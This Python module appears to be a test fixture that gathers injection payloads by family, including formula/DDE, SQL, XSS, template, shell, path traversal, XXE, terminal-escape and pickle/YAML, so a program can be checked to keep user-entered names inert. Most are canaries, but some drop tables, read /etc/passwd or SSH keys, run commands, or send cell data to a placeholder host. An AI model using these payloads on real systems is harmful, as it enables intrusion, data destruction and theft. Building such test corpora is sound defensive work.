"""What an attacker writes where a name should stand, by family. ``@S@`` is a file that appears when one came alive.

Every payload is text that fits in a cell; files that are payloads as a whole are in ``hostile_files``.
"""

from __future__ import annotations

from typing import Final

SENTINEL: Final = "@S@"

FORMULA: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", '"=1+1', "\uff1d1+1",
    "\uff0b1", "\uff20SUM(1)", "\uff0d1", "=cmd|'/C touch @S@'!A0", '=DDE("cmd";"/C touch @S@";"x")',
    '=HYPERLINK("http://x.example/"&A1,"klik")', '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML("http://x.example","//a")', '=IMAGE("http://x.example/a.png")', "=@SUM(1)", "{=1+1}",
    '=CALL("kernel32","WinExec","JC","calc",0)', '=FILTERXML("<a/>","//a")', '[>0]"@S@";General',
    '=INDIRECT("\'file:///etc/[passwd]x\'!A1")', "1E+05", "%0A=1+1",
)  # fmt: skip
SQL: Final = (
    "'; DROP TABLE allocation; --", "' OR '1'='1", '"; DROP TABLE ledger; --', "'); DELETE FROM ledger; --",
    "$$; SELECT 1; $$", "' UNION SELECT * FROM read_csv('/etc/passwd') --", "'; COPY allocation TO '@S@'; --",
    "'; ATTACH '@S@' AS x; --", "\\'; INSTALL httpfs; --", "'; PRAGMA database_list; --", "%' OR name LIKE '%",
    "$day", ":bsn", "?; DROP TABLE x", "/* */ OR 1=1", "'||(SELECT content FROM read_blob('/etc/passwd'))||'",
)  # fmt: skip
HTML: Final = (
    "<script>window.kanarie=1</script>", "<img src=x onerror=window.kanarie=1>", "<svg onload=window.kanarie=1>",
    '"><script>window.kanarie=1</script>', "' onmouseover='window.kanarie=1",
    "<iframe srcdoc='<script>parent.kanarie=1</script>'>", "javascript:window.kanarie=1",
    "<a href=javascript:window.kanarie=1>x</a>", "</title><script>window.kanarie=1</script>",
    "</style><script>window.kanarie=1</script>", "</svg><script>window.kanarie=1</script>",
    "</text><script>window.kanarie=1</script>", "<style>*{background:url(http://x.example/a)}</style>",
    "<link rel=stylesheet href=http://x.example/a.css>",
    "<meta http-equiv=refresh content='0;url=http://x.example'>", "<base href=http://x.example/>",
    "<details open ontoggle=kanarie=1>", "<math><mtext></mtext><script>kanarie=1</script></math>",
    "&lt;script&gt;kanarie=1&lt;/script&gt;", "&#60;script&#62;kanarie=1", "<!--><script>window.kanarie=1</script>",
    "]]><script>window.kanarie=1</script>", "expression(kanarie=1)", "[x](javascript:kanarie=1)",
    "![x](http://x.example/a.png)", "\\u003cscript\\u003ekanarie=1", "<foreignObject><script>kanarie=1",
)  # fmt: skip
TEMPLATE: Final = (
    "{{ 77777*99999 }}", "{% raw %}", "{{ cycler.__init__.__globals__.os.system('touch @S@') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{%p for x in range(9) %}", "{{r vrouwen }}", "{# x #}",
    "{{ vrouwen }}", "{% include '/etc/passwd' %}", "${77777*99999}", "#{77777*99999}", "<%= 77777*99999 %>",
    "{0.__class__}", "%(naam)s", "%n%n%s%x", "{naam!r:>9999999}", "${env:PATH}", "${jndi:ldap://x.example/a}",
)  # fmt: skip
TYPST: Final = (
    '#read("/etc/passwd")', "#sys.inputs.content", '#eval("1+1")', "#panic()", '#include "x.typ"',
    '#link("http://x.example")[x]', '#image("/etc/passwd")', "*x* _y_ $z$ `w`", "\\ ~ -- ---",
    '#import "@preview/x:0.1.0"', "<label> @ref", '#plugin("x.wasm")',
)  # fmt: skip
SHELL: Final = (
    "$(touch @S@)", "`touch @S@`", "; touch @S@", "| touch @S@", "&& touch @S@", "> @S@", "$PATH", "%COMSPEC%", "!!",
    "~root",
)  # fmt: skip
PATH: Final = (
    "../../@S@", "/etc/passwd", "..\\..\\x", "C:\\Windows\\x", "\\\\server\\deel\\x", "CON", "NUL.txt", "aux",
    "COM1", ".", "..", "file:///etc/passwd", "a/b", "x::$DATA", "....//....//x", "%2e%2e%2fx", "-rf",
    "~/.ssh/id_rsa",
)  # fmt: skip
XML: Final = (
    "<w:p/>&amp;", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;", "<![CDATA[x]]>",
    "<?xml version='1.0'?>", '<xi:include href="/etc/passwd"/>',
    "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r>", "_x003D_1+1", "&#0;",
    "<w:fldSimple w:instr='INCLUDEPICTURE http://x.example'/>", "</t></si>", "&#x1b;[2J",
)  # fmt: skip
UNICODE: Final = (
    "\u202eomgekeerd", "\u2066x\u2069", "nul\u200bbreed", "\ufeffbom", "\u0410nna", "\u1d00\u1d0d",
    "Z\u0351\u0351\u0351algo", "\U0001f469\u200d\U0001f469\u200d\U0001f467", "\ufffe", "\u2028regel", "\u2029alinea",
    "\x85nel", "\xad", "x" * 300, "\u674e\u5c0f\u9f8d",
)  # fmt: skip
TERMINAL: Final = (
    "\x1b[2J\x1b[H", "\x1b]0;kanarie\x07", "\x1b[38;5;77mkanarie", "\x9b2J",
    "\x1b]8;;http://x.example\x07x\x1b]8;;\x07", "\x1b[6n", "\x07\x08", '\x1bP+q544e\x1b\\',
    "x\rError: all is well.", "x\nError: all is well.", "x\r\n2024-04-02 INFO drawn",
)  # fmt: skip
SERIAL: Final = (
    "cos\nsystem\n(S'touch @S@'\ntR.", "gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAl0b3VjaCBAU0CUhZRSlC4=",
    "!!python/object/apply:os.system ['touch @S@']", "!!python/name:os.system", "&a [*a,*a]", "<<: *a", "- ? x",
    "[1, 2", '{"__class__": "os"}', 'O:8:"stdClass":0:{}', "rO0ABXNy",
)  # fmt: skip

FAMILIES: Final[dict[str, tuple[str, ...]]] = {
    "formula": FORMULA, "sql": SQL, "html": HTML, "template": TEMPLATE, "typst": TYPST, "shell": SHELL, "path": PATH,
    "xml": XML, "unicode": UNICODE, "terminal": TERMINAL, "pickle and yaml": SERIAL,
}  # fmt: skip


def texts(sentinel: str) -> dict[str, tuple[str, ...]]:
    """Return the payloads by family, with the file that would betray one."""
    return {name: tuple(one.replace(SENTINEL, sentinel) for one in group) for name, group in FAMILIES.items()}
